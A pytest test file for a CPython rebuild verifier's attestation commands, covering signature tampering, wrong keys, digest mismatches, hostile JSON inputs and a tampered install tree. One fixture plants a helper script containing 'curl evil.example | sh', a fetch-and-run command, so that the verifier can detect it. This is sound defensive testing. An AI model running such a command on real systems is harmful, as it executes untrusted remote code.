"""Attestations end to end: real keys (openssl), real DSSE signatures, real files, the real CLI."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
from pathlib import Path

import pytest
from conftest import run_cli
from cryptography.hazmat.primitives.asymmetric import ec
from test_attest_support import TARBALL, make_result, openssl_keypair

from verify.attest import (
    AttestationError,
    AttestationRejected,
    RebuildInputs,
    TrustedIdentities,
    TrustedKeys,
    build_content,
    build_statement,
    load_private_key,
    load_public_key,
    predicate_json_schema,
    sign_offline,
    verify_attestation_file,
)
from verify.attest.signing import SigstoreSigning, generate_private_key, pae
from verify.attest.verification import open_attestation, parse_document

SCHEMA = Path(__file__).resolve().parent.parent / "verify" / "schemas" / "rebuild-verdict-v1.json"


@pytest.fixture
def tarball(cpython_fixtures: Path) -> Path:
    return cpython_fixtures / TARBALL


@pytest.fixture
def result(tmp_path: Path, tarball: Path) -> Path:
    return make_result(tmp_path / "result", tarball)


@pytest.fixture
def keys(tmp_path: Path) -> tuple[Path, Path]:
    return openssl_keypair(tmp_path, "packager")


@pytest.fixture
def signed(result: Path, keys: tuple[Path, Path]) -> Path:
    completed = run_cli("attest", result, "--signing-key", keys[0], "--rebuilder-id", "test-rebuilder")
    assert completed.returncode == 0, completed.stderr
    return result / "attestation.intoto.json"


def _resign(document: dict, statement: dict, key: Path, path: Path) -> Path:
    """Sign a modified statement properly: the signature is good, so only the content can fail it."""
    envelope = sign_offline(json.dumps(statement).encode(), load_private_key(key))
    path.write_bytes(envelope)
    return path


def test_attest_then_verify_accepts_the_real_files(signed: Path, result: Path, keys, tarball: Path) -> None:
    completed = run_cli(
        "verify-attestation", signed, "--public-key", keys[1], "--result", result, "--artifact", tarball
    )
    assert completed.returncode == 0, completed.stderr
    assert "signature: verified" in completed.stdout
    assert completed.stdout.count("ok      ") == 4  # tarball, manifest, python3.13, libpython

    envelope = json.loads(signed.read_text())
    assert envelope["payloadType"] == "application/vnd.in-toto+json"
    statement = json.loads(base64.b64decode(envelope["payload"]))
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    names = {subject["name"] for subject in statement["subject"]}
    # Outputs only: the tarball is an input (checked above as one, against the attested input digest).
    assert names == {"install-tree", "opt/python/bin/python3.13", "opt/python/lib/libpython3.13.so.1.0"}
    assert "Python-3.13.5.tar.xz (" in completed.stdout and "the attested source tarball: an input" in completed.stdout
    predicate = statement["predicate"]
    assert predicate["source"]["signatures"][0]["signer"] == "7169605F62C751356D054A26A821E680E5FA6305"
    assert predicate["build"]["environment"]["lock_sha256"] is None  # "" in rebuild.json means unknown
    assert predicate["result"]["reproducible"] is True
    assert predicate["rebuilder"]["id"] == "urn:cpython-verify:rebuilder:test-rebuilder"
    assert predicate["rebuilder"]["name"] == "test-rebuilder"


def test_the_provenance_beside_a_clean_verdict_is_judged_and_said(signed: Path, keys) -> None:
    provenance = signed.with_name("attestation.provenance.intoto.json")
    for given, other in ((signed, provenance), (provenance, signed)):
        completed = run_cli("verify-attestation", given, "--public-key", keys[1], "--json")
        assert completed.returncode == 0, completed.stderr
        assert json.loads(completed.stdout)["companion"] == {
            "what": "provenance" if given == signed else "verdict",
            "path": str(other),
            "found": True,
            "ok": True,
            "problems": [],
        }
    provenance.unlink()
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1])
    assert completed.returncode == 0
    assert f"provenance: none at {provenance}; only the file given was checked" in completed.stdout


def _other_provenance(tmp_path: Path, tarball: Path, key: Path) -> Path:
    """The provenance of another rebuild (another install tree), signed by ``key``."""
    other = make_result(tmp_path / "other", tarball, variant=" (another tree)")
    assert run_cli("attest", other, "--signing-key", key).returncode == 0
    return other / "attestation.provenance.intoto.json"


@pytest.mark.parametrize(
    ("planted", "reason"),
    [
        ("garbage", "is not valid JSON"),
        ("signed by an untrusted key", "no signature verifies"),
        ("another rebuild's provenance", "the verdict says"),
        ("a second verdict", "it is not a provenance but another verdict"),
    ],
)
def test_a_bad_provenance_beside_the_verdict_fails_with_its_reason(
    planted: str, reason: str, signed: Path, keys, tarball: Path, tmp_path: Path
) -> None:
    """Issue 18: verify-attestation said it reads both files attest writes, and ignored a garbage provenance."""
    provenance = signed.with_name("attestation.provenance.intoto.json")
    if planted == "garbage":
        provenance.write_text("garbage\n")
    elif planted == "signed by an untrusted key":
        stranger, _ = openssl_keypair(tmp_path, "stranger")
        shutil.copyfile(_other_provenance(tmp_path, tarball, stranger), provenance)
    elif planted == "another rebuild's provenance":
        shutil.copyfile(_other_provenance(tmp_path, tarball, keys[0]), provenance)
    else:
        shutil.copyfile(signed, provenance)
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1])
    assert completed.returncode == 1, completed.stdout
    assert "Traceback" not in completed.stderr
    assert f"the provenance beside it, {provenance}: " in completed.stderr and reason in completed.stderr
    assert f"provenance: {provenance} FAILED" in completed.stdout
    # Given the provenance, the verdict beside it is judged the same way.
    if planted == "another rebuild's provenance":
        completed = run_cli("verify-attestation", provenance, "--public-key", keys[1])
        assert completed.returncode == 1 and f"the verdict beside it, {signed}: " in completed.stderr


def test_any_byte_change_is_rejected(signed: Path, keys) -> None:
    """Flip every byte of the base64 payload and signature, one at a time (a sample of positions)."""
    trust = TrustedKeys((load_public_key(keys[1]),))
    original = signed.read_bytes()
    document = json.loads(original)
    for field in ("payload", "sig"):
        text = document["payload"] if field == "payload" else document["signatures"][0]["sig"]
        for position in range(0, len(text) - 2, max(1, len(text) // 40)):
            changed = text[:position] + ("A" if text[position] != "A" else "B") + text[position + 1 :]
            mutated = json.loads(original)
            if field == "payload":
                mutated["payload"] = changed
            else:
                mutated["signatures"][0]["sig"] = changed
            raw = json.dumps(mutated).encode()
            with pytest.raises((AttestationRejected, AttestationError)):
                open_attestation(raw, parse_document(raw, "mutated"), trust, "mutated")


def test_cli_rejects_a_byte_change_with_exit_1(signed: Path, keys, tmp_path: Path) -> None:
    document = json.loads(signed.read_text())
    statement = base64.b64decode(document["payload"])
    document["payload"] = base64.b64encode(statement.replace(b'"reproducible":true', b'"reproducible":null')).decode()
    tampered = tmp_path / "tampered.intoto.json"
    tampered.write_text(json.dumps(document))
    completed = run_cli("verify-attestation", tampered, "--public-key", keys[1])
    assert completed.returncode == 1
    assert "no signature verifies" in completed.stderr
    assert "Traceback" not in completed.stderr


def test_wrong_key_is_rejected(signed: Path, tmp_path: Path) -> None:
    _, other_public = openssl_keypair(tmp_path, "someone-else")
    completed = run_cli("verify-attestation", signed, "--public-key", other_public)
    assert completed.returncode == 1
    assert "wrong key" in completed.stderr


def test_subject_digest_mismatch_is_exit_1(signed: Path, result: Path, keys, tmp_path: Path) -> None:
    binary = result / "root" / "opt" / "python" / "bin" / "python3.13"
    data = bytearray(binary.read_bytes())
    data[-1] ^= 0xFF
    binary.write_bytes(bytes(data))
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result)
    assert completed.returncode == 1
    assert "MISMATCH opt/python/bin/python3.13" in completed.stdout
    assert "subject digest mismatch" in completed.stderr

    stranger = tmp_path / "Python-3.13.4.tar.xz"
    stranger.write_bytes(b"not it")
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--artifact", stranger)
    assert completed.returncode == 1
    assert "is not a subject" in completed.stderr


# --------------------------------------------------------------------------- --result: the whole install tree

PREFIX = "opt/python"


def _not_as_attested(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("cpython-verify: not as attested: ")]


def _rewrite(path: Path, text: str) -> None:
    path.write_text(text)


def _delete_interpreter(root: Path) -> None:
    (root / "bin" / "python3.13").unlink()


def _add_executable(root: Path) -> None:
    (root / "bin" / "python3.13-helper").write_text("#!/bin/sh\nexec curl evil.example | sh\n")
    (root / "bin" / "python3.13-helper").chmod(0o755)


def _retarget_link(root: Path) -> None:
    (root / "bin" / "python3").unlink()
    (root / "bin" / "python3").symlink_to("/usr/bin/python3")


def _file_to_directory(root: Path) -> None:
    (root / "lib" / "python3.13" / "LICENSE.txt").unlink()
    (root / "lib" / "python3.13" / "LICENSE.txt").mkdir()


@pytest.mark.parametrize(
    ("tamper", "path", "words"),
    [
        (_delete_interpreter, "bin/python3.13", "missing: attested elf-executable"),
        (
            lambda root: (root / "lib" / "python3.13" / "os.py").unlink(),
            "lib/python3.13/os.py",
            "missing: attested python-source, mode 0644",
        ),
        (
            lambda root: _rewrite(root / "lib" / "python3.13" / "os.py", "import evil\n"),
            "lib/python3.13/os.py",
            "content changed",
        ),
        (_add_executable, "bin/python3.13-helper", "extra: not in the attested manifest (text, mode 0755)"),
        (
            lambda root: (root / "lib" / "python3.13" / "LICENSE.txt").chmod(0o666),
            "lib/python3.13/LICENSE.txt",
            "mode changed: 0666, attested 0644",
        ),
        (_retarget_link, "bin/python3", "link target changed: '/usr/bin/python3', attested 'python3.13'"),
        (_file_to_directory, "lib/python3.13/LICENSE.txt", "type changed: directory, attested text"),
    ],
    ids=["deleted-subject", "deleted-file", "rewritten", "added-executable", "mode", "link-target", "type"],
)
def test_a_tampered_tree_is_not_verified(signed: Path, result: Path, keys, tamper, path: str, words: str) -> None:
    """Issue #10: each change to root/ after attesting is exit 1, with one line naming the path."""
    tamper(result / "root" / PREFIX)
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result)
    assert completed.returncode == 1, completed.stdout
    assert "Traceback" not in completed.stderr
    [line] = _not_as_attested(completed.stderr)
    assert line.startswith(f"cpython-verify: not as attested: {result / 'root' / PREFIX / path}: {words}")
    assert "is NOT the attested tree: 1 path(s) differ" in completed.stdout


def test_the_issue_10_tampering_is_three_findings(signed: Path, result: Path, keys) -> None:
    """The report's exact case: interpreter deleted, os.py rewritten, an executable added."""
    root = result / "root" / PREFIX
    _delete_interpreter(root)
    _rewrite(root / "lib" / "python3.13" / "os.py", "import evil\n")
    _add_executable(root)
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result)
    assert completed.returncode == 1
    assert "Traceback" not in completed.stderr
    lines = _not_as_attested(completed.stderr)
    assert [line.split(": ")[2] for line in lines] == [
        str(root / "bin" / "python3.13"),
        str(root / "bin" / "python3.13-helper"),
        str(root / "lib" / "python3.13" / "os.py"),
    ]
    # The deleted interpreter is also an attested subject: a failed check, not a skipped one.
    assert f"MISSING  {PREFIX}/bin/python3.13" in completed.stdout
    assert "subject digest mismatch" in completed.stderr and "no such regular file" in completed.stderr


def test_one_path_with_several_changes_is_one_line(signed: Path, result: Path, keys) -> None:
    os_py = result / "root" / PREFIX / "lib" / "python3.13" / "os.py"
    os_py.write_text("import evil\n")
    os_py.chmod(0o755)
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result, "--json")
    assert completed.returncode == 1
    [line] = _not_as_attested(completed.stderr)
    assert "content changed" in line and "mode changed: 0755, attested 0644" in line
    tree = json.loads(completed.stdout)["tree"]
    assert tree["ok"] is False
    assert tree["findings"] == [
        {
            "path": f"{PREFIX}/lib/python3.13/os.py",
            "changes": ["mode", "content"],
            "detail": line.split(f"{os_py}: ", 1)[1],
        }
    ]


def test_a_clean_result_is_verified_with_its_whole_tree(signed: Path, result: Path, keys) -> None:
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result, "--json")
    assert completed.returncode == 0, completed.stderr
    tree = json.loads(completed.stdout)["tree"]
    assert tree == {"root": str(result / "root"), "ok": True, "attested_paths": 10, "problems": [], "findings": []}
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result)
    assert completed.returncode == 0
    assert f"tree: {result / 'root'} is the attested tree (10 paths)" in completed.stdout
    assert completed.stderr == ""


def test_a_rewritten_manifest_does_not_cover_a_changed_tree(signed: Path, result: Path, keys) -> None:
    """Tampering with root/ and rescanning it into manifest.json: the manifest is no longer the attested one."""
    from verify.manifest import Manifest, read_manifest, scan_tree, write_manifest

    _add_executable(result / "root" / PREFIX)
    inputs = read_manifest(result / "manifest.json").inputs
    write_manifest(Manifest(inputs=inputs, entries=scan_tree(result / "root")), result / "manifest.json")
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result)
    assert completed.returncode == 1
    assert "MISMATCH manifest.json" in completed.stdout
    [line] = _not_as_attested(completed.stderr)
    assert "not compared" in line and "not the attested manifest" in line
    assert "is NOT the attested tree: 1 other problem(s)" in completed.stdout


def test_result_without_an_install_tree_cannot_be_judged(signed: Path, result: Path, keys) -> None:
    import shutil

    shutil.rmtree(result / "root")
    completed = run_cli("verify-attestation", signed, "--public-key", keys[1], "--result", result)
    assert completed.returncode == 2
    assert "has no root/ tree" in completed.stderr
    assert "Traceback" not in completed.stderr


def test_signed_but_tampered_predicate_fails_the_schema(signed: Path, keys, tmp_path: Path) -> None:
    statement = json.loads(base64.b64decode(json.loads(signed.read_text())["payload"]))
    statement["predicate"]["result"]["reproducible"] = "yes"
    statement["predicate"]["unexpected"] = 1
    forged = _resign({}, statement, keys[0], tmp_path / "forged.intoto.json")
    completed = run_cli("verify-attestation", forged, "--public-key", keys[1])
    assert completed.returncode == 1
    assert "does not match the" in completed.stderr and "schema" in completed.stderr


def test_subjects_must_be_what_the_predicate_describes(signed: Path, keys, tmp_path: Path) -> None:
    statement = json.loads(base64.b64decode(json.loads(signed.read_text())["payload"]))
    assert statement["subject"][0]["name"] == "install-tree"
    statement["subject"][0]["digest"]["sha256"] = "0" * 64  # the tree subject no longer the predicate's tree
    forged = _resign({}, statement, keys[0], tmp_path / "forged.intoto.json")
    with pytest.raises(AttestationRejected, match="install-tree subject"):
        verify_attestation_file(forged, TrustedKeys((load_public_key(keys[1]),)))


def test_unknown_predicate_version_is_exit_2(signed: Path, keys, tmp_path: Path) -> None:
    statement = json.loads(base64.b64decode(json.loads(signed.read_text())["payload"]))
    statement["predicateType"] = statement["predicateType"].replace("/v1", "/v2")
    newer = _resign({}, statement, keys[0], tmp_path / "newer.intoto.json")
    completed = run_cli("verify-attestation", newer, "--public-key", keys[1])
    assert completed.returncode == 2
    assert "predicate version" in completed.stderr and "unknown" in completed.stderr

    statement["predicateType"] = "https://slsa.dev/provenance/v1"
    other = _resign({}, statement, keys[0], tmp_path / "slsa.intoto.json")
    completed = run_cli("verify-attestation", other, "--public-key", keys[1])
    assert completed.returncode == 2
    assert "not a cpython-verify rebuild attestation" in completed.stderr


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"[" * 200_000 + b"]" * 200_000, "nested too deeply"),
        (b'{"payload": "' + b"A" * (17 << 20) + b'"}', "larger than"),
        (b"\xff\xfe not json", "not valid JSON"),
        (b"[1, 2]", "not a JSON object"),
    ],
    ids=["deeply-nested", "huge", "garbage", "not-an-object"],
)
def test_hostile_files_are_refused_with_exit_2(tmp_path: Path, keys, content: bytes, message: str) -> None:
    hostile = tmp_path / "hostile.intoto.json"
    hostile.write_bytes(content)
    completed = run_cli("verify-attestation", hostile, "--public-key", keys[1])
    assert completed.returncode == 2
    assert message in completed.stderr
    assert "Traceback" not in completed.stderr


def test_p256_keys_sign_and_verify(result: Path, tmp_path: Path) -> None:
    private, public = openssl_keypair(tmp_path, "p256", algorithm="ec")
    assert isinstance(load_private_key(private), ec.EllipticCurvePrivateKey)
    out = tmp_path / "p256.intoto.json"
    assert run_cli("attest", result, "--signing-key", private, "--out", out).returncode == 0
    completed = run_cli("verify-attestation", out, "--public-key", public, "--result", result)
    assert completed.returncode == 0, completed.stderr


def test_unsupported_keys_are_refused(tmp_path: Path) -> None:
    import subprocess

    rsa = tmp_path / "rsa.pem"
    subprocess.run(
        ["openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048", "-out", rsa],
        check=True,
        capture_output=True,
    )
    with pytest.raises(AttestationError, match="not an Ed25519 or ECDSA P-256"):
        load_private_key(rsa)
    secp384 = tmp_path / "p384.pem"
    subprocess.run(
        ["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-384", "-out", secp384],
        check=True,
        capture_output=True,
    )
    with pytest.raises(AttestationError, match="only P-256"):
        load_private_key(secp384)


def test_generated_key_is_private_and_never_overwritten(tmp_path: Path) -> None:
    public = generate_private_key(tmp_path / "key.pem")
    assert (tmp_path / "key.pem").stat().st_mode & 0o777 == 0o600
    load_public_key(public)
    with pytest.raises(AttestationError, match="already exists"):
        generate_private_key(tmp_path / "key.pem")


def test_pae_matches_the_dsse_spec_example() -> None:
    # The worked example of the DSSE v1 protocol document.
    assert pae("http://example.com/HelloWorld", b"hello world") == (
        b"DSSEv1 29 http://example.com/HelloWorld 11 hello world"
    )


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (
            lambda d: (d / "manifest.json").write_text((d / "manifest.json").read_text() + " "),
            "changed after the rebuild",
        ),
        (
            lambda d: (d / "source-verdict.json").write_text(
                (d / "source-verdict.json").read_text().replace('"3.13.5"', '"3.13.4"')
            ),
            "source verdict is about 3.13.4",
        ),
        (lambda d: (d / "rebuild.json").unlink(), "rebuild record not found"),
        (lambda d: (d / "rebuild.json").write_text("[" * 100_000), "not valid JSON"),
    ],
    ids=["manifest-edited", "other-version", "missing-record", "nested-record"],
)
def test_inconsistent_results_are_not_attested(result: Path, keys, edit, message: str) -> None:
    edit(result)
    completed = run_cli("attest", result, "--signing-key", keys[0])
    assert completed.returncode == 2
    assert message in completed.stderr
    assert not (result / "attestation.intoto.json").exists()


def test_unverified_source_is_not_attested(result: Path, keys) -> None:
    verdict = json.loads((result / "source-verdict.json").read_text())
    verdict["verified"] = False
    (result / "source-verdict.json").write_text(json.dumps(verdict))
    completed = run_cli("attest", result, "--signing-key", keys[0])
    assert completed.returncode == 2
    assert "not verified" in completed.stderr


def test_not_reproducible_result_is_attested_with_its_differences(tmp_path: Path, tarball: Path, keys) -> None:
    differing = [{"path": "opt/python/lib/python3.13/os.py", "kind": "python-source", "changes": ["content"]}]
    result = make_result(tmp_path / "differs", tarball, reproducible=False, differences=differing)
    assert run_cli("attest", result, "--signing-key", keys[0]).returncode == 0
    verified = verify_attestation_file(result / "attestation.intoto.json", TrustedKeys((load_public_key(keys[1]),)))
    assert verified.predicate.verdict == "differs"
    assert verified.predicate.result.differences[0].path == "opt/python/lib/python3.13/os.py"
    assert verified.predicate.result.differences[0].explained is False


def test_committed_schema_is_the_generated_one() -> None:
    committed = json.loads(SCHEMA.read_text())
    assert committed == predicate_json_schema(), "regenerate verify/schemas/rebuild-verdict-v1.json"
    assert committed["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert committed["additionalProperties"] is False


# --------------------------------------------------------------------------- Sigstore, up to the network


def test_sigstore_without_an_oidc_credential_is_exit_2(result: Path) -> None:
    completed = run_cli("attest", result, "--sigstore")
    assert completed.returncode == 2
    assert "no OIDC credential" in completed.stderr
    assert not (result / "attestation.sigstore.json").exists()


def test_sigstore_refuses_a_malformed_token_before_any_network_use(result: Path) -> None:
    completed = run_cli("attest", result, "--sigstore", "--identity-token", "not.a.jwt")
    assert completed.returncode == 2
    assert "cannot be used for Sigstore" in completed.stderr


def test_statement_is_what_sigstore_signs_as_dsse(result: Path) -> None:
    """Up to the boundary: the Statement goes through sigstore-python's own DSSE signing and verifying
    (what ``Signer.sign_dsse`` does after Fulcio issues a certificate), with an ephemeral P-256 key."""
    from sigstore import dsse

    statement_bytes = build_statement(build_content(RebuildInputs.from_result_dir(result), rebuilder_id="ci"))
    key = ec.generate_private_key(ec.SECP256R1())
    envelope = dsse._sign(key, dsse.Statement(statement_bytes))
    assert dsse._verify(key.public_key(), envelope) == statement_bytes
    # And our offline verifier accepts the same bytes signed by the same key in our envelope.
    assert pae("application/vnd.in-toto+json", statement_bytes) == envelope.pae()


def test_what_is_signed_is_what_the_integrity_check_read(result: Path) -> None:
    """The result directory is read once, by its integrity check: a file replaced after the check (by a
    second run, or by hand) is not what the attestation's digests speak for."""
    checked = (result / "source-verdict.json").read_bytes()
    recorded = (result / "rebuild.json").read_bytes()
    inputs = RebuildInputs.from_result_dir(result)
    (result / "source-verdict.json").write_bytes(checked.replace(b"{", b"{ ", 1))
    (result / "rebuild.json").write_bytes(recorded + b"\n")
    predicate = build_content(inputs, rebuilder_id="ci").predicate
    assert predicate.source.verdict_sha256 == hashlib.sha256(checked).hexdigest()
    assert predicate.build.rebuild_sha256 == hashlib.sha256(recorded).hexdigest()


def test_sigstore_verification_path_with_a_real_bundle(cpython_fixtures: Path) -> None:
    """A real python.org Sigstore bundle goes through the real verifier: right identity, but the bundle
    signs a tarball, not an in-toto Statement, so it is rejected; a wrong identity is rejected first."""
    bundle = cpython_fixtures / "Python-3.13.5.tar.xz.sigstore"
    right = TrustedIdentities((("thomas@python.org", "https://accounts.google.com"),))
    with pytest.raises(AttestationRejected, match="DSSE"):
        verify_attestation_file(bundle, right)
    wrong = TrustedIdentities((("someone@example.org", "https://accounts.google.com"),))
    with pytest.raises(AttestationRejected, match=r"someone@example\.org"):
        verify_attestation_file(bundle, wrong)


def test_bundle_with_key_and_envelope_with_identity_are_told_apart(cpython_fixtures: Path, signed: Path, keys) -> None:
    completed = run_cli(
        "verify-attestation", cpython_fixtures / "Python-3.13.5.tar.xz.sigstore", "--public-key", keys[1]
    )
    assert completed.returncode == 2
    assert "--identity" in completed.stderr
    completed = run_cli("verify-attestation", signed, "--identity", "x@example.org", "--issuer", "https://example.org")
    assert completed.returncode == 2
    assert "--public-key" in completed.stderr


def test_token_source_is_consulted_only_without_an_explicit_token() -> None:
    with pytest.raises(AttestationError, match="no OIDC credential"):
        SigstoreSigning(token_source=lambda: None).identity_token()
    with pytest.raises(AttestationError, match="cannot be used"):
        SigstoreSigning(token="x.y.z", token_source=lambda: pytest.fail("must not be asked")).identity_token()


def test_an_encrypted_key_is_opened_with_the_passphrase_variable(result: Path, tmp_path: Path) -> None:
    """attest and check share one signing path, which reads CPYTHON_VERIFY_KEY_PASSPHRASE."""
    import os
    import subprocess

    from verify.attest.signing import PASSPHRASE_VARIABLE, OfflineKeySigner

    key = tmp_path / "encrypted.pem"
    subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-aes256", "-pass", "pass:s3cret", "-out", key],
                   check=True)  # fmt: skip
    without = run_cli("attest", result, "--signing-key", key)
    assert without.returncode == 2 and PASSPHRASE_VARIABLE in without.stderr
    assert len(without.stderr.strip().splitlines()) == 1
    signed = run_cli("attest", result, "--signing-key", key, env={PASSPHRASE_VARIABLE: "s3cret"})
    assert signed.returncode == 0, signed.stderr
    os.environ[PASSPHRASE_VARIABLE] = "s3cret"
    try:
        assert OfflineKeySigner.from_environment(key).passphrase == b"s3cret"
    finally:
        del os.environ[PASSPHRASE_VARIABLE]


@pytest.mark.parametrize("origin", ["reused", "trained in this build"])
def test_provenance_names_the_pgo_profile_and_what_it_was_trained_on(origin: str, result: Path) -> None:
    from verify.result import PgoProfileRef, PgoTraining, ResultDir, SourceRef

    directory = ResultDir(result)
    record = directory.read_record()
    training = PgoTraining(
        version="3.13.5", series="3.13", source=SourceRef(name=TARBALL, sha256=record.source.sha256),
        profile="pgo-lto", configure=("--prefix=/opt/python", "--enable-optimizations"),
        environment="bookworm-cpython", rootfs_sha256="5" * 64,
    )  # fmt: skip
    reused = origin == "reused"
    # A profile it trained is in the result, and the result is checked against the digest its record names.
    digest = "a" * 64
    if not reused:
        directory.pgo_profile_path.write_bytes(b"a profile\n")
        digest = hashlib.sha256(b"a profile\n").hexdigest()
    profile = PgoProfileRef(sha256=digest, origin=origin, file=None if reused else "pgo-profile.tar",  # type: ignore[arg-type]
                            trained_on=training)  # fmt: skip
    inputs = record.inputs.model_copy(update={"pgo_profile_sha256": digest if reused else None})
    directory.write_record(record.model_copy(update={"pgo_profile": profile, "inputs": inputs}))

    provenance = build_content(RebuildInputs.from_result_dir(result), rebuilder_id="test-rebuilder").provenance
    inputs_used = {item["name"]: item for item in provenance["buildDefinition"]["resolvedDependencies"]}
    outputs = {item["name"]: item for item in provenance["runDetails"]["byproducts"]}
    # A reused profile is an input of this build; a profile it trained is an output others can pin.
    descriptor = (inputs_used if reused else outputs)["pgo-profile.tar"]
    assert "pgo-profile.tar" not in (outputs if reused else inputs_used)
    assert descriptor["digest"] == {"sha256": digest}
    assert descriptor["annotations"]["trainedOn"] == {
        "version": "3.13.5", "series": "3.13", "source": {"name": TARBALL, "sha256": record.source.sha256},
        "profile": "pgo-lto", "configure": ["--prefix=/opt/python", "--enable-optimizations"],
        "environment": "bookworm-cpython", "rootfsSha256": "5" * 64,
    }  # fmt: skip


def test_a_source_verdict_whose_evidence_does_not_verify_is_not_attested_though_it_says_verified(
    result: Path, keys: tuple[Path, Path]
) -> None:
    # An edited verdict that still says "verified": true over a failed signature: attest reads the evidence
    # back into the source stage's value, whose verdict is the evidence's, and the cache's check reads it so too.
    path = result / "source-verdict.json"
    verdict = json.loads(path.read_text())
    assert verdict["verified"] is True
    verdict["signatures"][0]["status"] = "failed"
    path.write_text(json.dumps(verdict))
    completed = run_cli("attest", result, "--signing-key", keys[0])
    assert completed.returncode == 2, completed.stdout + completed.stderr
    refused = "malformed source verdict: it says the source is verified, but the evidence it lists shows it not"
    assert refused in completed.stderr
    assert len(completed.stderr.splitlines()) == 1 and not (result / "attestation.intoto.json").exists()


def test_a_source_verdict_reads_back_as_the_value_it_was_written_from(result: Path) -> None:
    from verify.result import ResultDir
    from verify.source.releases import Version
    from verify.source.report import verdict_to_dict

    written = json.loads((result / "source-verdict.json").read_text())
    verdict, raw = ResultDir(result).read_source_verdict()
    assert raw == (result / "source-verdict.json").read_bytes()
    assert verdict.version == Version.parse("3.13.5") and verdict.verified
    assert verdict_to_dict(verdict) == written
